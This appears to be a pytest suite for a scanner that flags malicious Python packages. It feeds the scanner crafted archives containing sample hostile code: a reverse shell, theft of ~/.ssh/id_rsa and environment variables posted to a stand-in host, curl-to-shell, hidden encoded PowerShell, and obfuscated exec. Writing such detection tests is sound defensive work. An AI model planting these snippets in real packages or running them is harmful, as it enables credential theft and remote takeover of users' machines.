"""The scanner's rules, each on a small crafted archive built in memory."""

from __future__ import annotations

import base64

import pytest

from policies.scan import ScanOptions, scan_bytes, verdict
from policies.scan.model import Severity
from tests.support.scan_archives import sdist, wheel

B64 = base64.b64encode(b"print('hello')").decode()


def rules_of(data: bytes, filename: str, options: ScanOptions | None = None) -> dict[str, Severity]:
    result = scan_bytes(data, filename, options)
    found: dict[str, Severity] = {}
    for finding in result.findings:
        found[finding.rule] = max(found.get(finding.rule, Severity.INFO), finding.severity)
    return found


def sdist_rules(files: dict[str, str]) -> dict[str, Severity]:
    return rules_of(sdist(files), "demo-1.0.tar.gz")


def wheel_rules(files: dict[str, str]) -> dict[str, Severity]:
    return rules_of(wheel(files), "demo-1.0-py3-none-any.whl")


def test_a_plain_sdist_and_wheel_have_no_findings() -> None:
    assert sdist_rules({"demo/__init__.py": "def f():\n    return 1\n"}) == {}
    assert wheel_rules({"demo/__init__.py": "import os\nX = os.sep\n"}) == {}


HOOK = """
from setuptools import setup
from setuptools.command.install import install
import subprocess

class Hook(install):
    def run(self):
        install.run(self)
        subprocess.call(["touch", "/tmp/x"])

setup(name="demo", cmdclass={"install": Hook})
"""


def test_install_hook_that_starts_a_process() -> None:
    found = sdist_rules({"setup.py": HOOK})
    assert found["install-hook"] == Severity.LOW
    assert found["install-process"] == Severity.HIGH


def test_setup_py_network_at_top_level() -> None:
    setup = "import urllib.request\nurllib.request.urlopen('http://127.0.0.1/')\n"
    assert sdist_rules({"setup.py": setup})["install-network"] == Severity.HIGH


def test_setup_py_writing_to_the_home_directory() -> None:
    setup = "import os\nopen(os.path.expanduser('~/.config/demo.ini'), 'a').write('x')\n"
    assert "install-write" in sdist_rules({"setup.py": setup})


def test_in_tree_build_backend() -> None:
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
    assert "build-backend-in-tree" in sdist_rules({"pyproject.toml": pyproject})


@pytest.mark.parametrize(
    "code",
    [
        f"import base64\nexec(base64.b64decode('{B64}'))\n",
        f"exec(__import__('base64').b64decode('{B64}'))\n",
        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{B64}')))\n",
        "import marshal\n_ = lambda x: marshal.loads(x[::-1])\nexec(_(b'abc'))\n",
        "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n",
        "x = bytes.fromhex('7072696e74')\neval(compile(x, '<s>', 'exec'))\n",
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'token'))\n",
    ],
)
def test_exec_of_decoded_data(code: str) -> None:
    assert wheel_rules({"demo/__init__.py": code})["obfuscated-exec"] == Severity.CRITICAL


def test_download_and_exec() -> None:
    code = "import requests\nexec(requests.get('http://127.0.0.1/x').text)\n"
    assert "download-exec" in wheel_rules({"demo/__init__.py": code})


def test_download_write_and_run() -> None:
    code = (
        "import os, urllib.request\n"
        "def go(d):\n"
        "    data = urllib.request.urlopen('http://127.0.0.1/a.exe').read()\n"
        "    with open(d + '/a.exe', 'wb') as f:\n"
        "        f.write(data)\n"
        "    os.system('start ' + d + '/a.exe')\n"
    )
    assert "download-exec" in wheel_rules({"demo/tool.py": code})


def test_reverse_shell() -> None:
    code = (
        "import socket, os, subprocess\n"
        "s = socket.socket()\ns.connect(('127.0.0.1', 9))\n"
        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n"
    )
    assert wheel_rules({"demo/__init__.py": code})["reverse-shell"] == Severity.CRITICAL


def test_exfiltration_of_a_secret_store() -> None:
    code = (
        "import os, requests\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "requests.post('http://127.0.0.1/', data=key)\n"
    )
    assert wheel_rules({"demo/__init__.py": code})["exfiltration"] == Severity.CRITICAL


def test_environment_dump_sent_out() -> None:
    code = "import os, json, requests\nrequests.post('http://127.0.0.1/', json=dict(os.environ))\n"
    assert "exfiltration" in wheel_rules({"demo/__init__.py": code})


def test_api_keys_sent_to_their_api_are_ordinary() -> None:
    code = (
        "import os, requests\n"
        "def call():\n"
        "    return requests.post('http://127.0.0.1/', headers={'k': os.environ['API_KEY']})\n"
    )
    assert wheel_rules({"demo/client.py": code}) == {}


def test_recon_beacon_at_install_time_is_critical() -> None:
    setup = (
        "import socket, getpass, requests\n"
        "requests.get('http://127.0.0.1/', params={'h': socket.gethostname(),"
        " 'u': getpass.getuser()})\n"
    )
    assert sdist_rules({"setup.py": setup})["recon-beacon"] == Severity.CRITICAL


def test_recon_inside_an_uncalled_function_is_not_a_beacon() -> None:
    code = (
        "import socket, requests\n"
        "def f():\n    requests.get('http://h/', params=socket.gethostname())\n"
    )
    assert "recon-beacon" not in wheel_rules({"demo/x.py": code})


def test_hidden_powershell() -> None:
    setup = (
        "import subprocess\n"
        "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand QQBCAEMA')\n"
        "from setuptools import setup\nsetup()\n"
    )
    assert sdist_rules({"setup.py": setup})["shell-command"] == Severity.CRITICAL


def test_curl_piped_to_a_shell() -> None:
    code = "import os\ndef f():\n    os.system('curl -s http://127.0.0.1/x | sh')\n"
    assert "download-exec" in wheel_rules({"demo/x.py": code})


def test_pth_shapes() -> None:
    launcher = wheel_rules({"demo.pth": "import demo\n", "demo/__init__.py": ""})
    assert launcher["pth-launcher"] == Severity.MEDIUM
    namespace = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'])\n"
    assert wheel_rules({"ns.pth": namespace})["pth-launcher"] == Severity.INFO
    evil = "import subprocess; subprocess.Popen(['python', '-c', 'print(1)'])\n"
    assert wheel_rules({"evil.pth": evil})["pth-exec"] == Severity.CRITICAL
    assert wheel_rules({"paths.pth": "demo/lib\n"}) == {}


def test_startup_hook_module() -> None:
    assert "startup-hook" in wheel_rules({"sitecustomize.py": "X = 1\n"})


def test_pyarmor_runtime() -> None:
    code = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__)\n"
    assert "pyarmor" in wheel_rules({"demo/__init__.py": code})


def test_look_alike_identifiers() -> None:
    code = "\U0001d5c9\U0001d5cb\U0001d5c2\U0001d5c7\U0001d5cd('x')\n"
    assert "obfuscated-names" in wheel_rules({"demo/__init__.py": code})


def test_code_hidden_behind_whitespace() -> None:
    code = "x = 1" + " " * 200 + "; import os; os.system('id')\n"
    assert "hidden-code" in wheel_rules({"demo/__init__.py": code})


def test_computed_builtins() -> None:
    code = "f = getattr(__builtins__, ''.join(['ex', 'ec']))\n"
    assert "dynamic-builtins" in wheel_rules({"demo/__init__.py": code})


def test_large_blob_and_embedded_executable() -> None:
    # A blob alone does not get a file parsed (triage); next to a decoder and a process it does.
    blob = base64.b64encode(b"MZ" + b"\0" * 4000).decode()
    code = (
        f"import base64, os\nDATA = '{blob}'\ndef run():\n    os.system(base64.b64decode(DATA))\n"
    )
    found = wheel_rules({"demo/data.py": code})
    assert found["encoded-blob"] == Severity.LOW
    assert found["embedded-executable"] >= Severity.HIGH


def test_executable_inside_an_sdist() -> None:
    elf = "\x7fELF" + "\0" * 60
    assert "executable-in-sdist" in sdist_rules({"bin/tool": elf})


def test_threats_in_tests_are_demoted() -> None:
    code = "import os, requests\nrequests.post('http://h/', data=open('~/.ssh/id_rsa').read())\n"
    found = wheel_rules({"demo/tests/test_x.py": code})
    assert found["exfiltration"] == Severity.MEDIUM


def test_options_drop_rules_exempt_paths_and_cap_size() -> None:
    code = f"import base64\nexec(base64.b64decode('{B64}'))\n"
    data = wheel({"demo/__init__.py": code})
    name = "demo-1.0-py3-none-any.whl"
    assert "obfuscated-exec" not in rules_of(data, name, ScanOptions(rules=frozenset()))
    exempt = ScanOptions(exempt_paths=("demo/*",))
    assert "obfuscated-exec" not in rules_of(data, name, exempt)
    capped = ScanOptions(max_bytes=10)
    judged = verdict(scan_bytes(data, name, capped), capped)
    assert judged.decision == "warn"
    assert "over the scan cap" in judged.reason
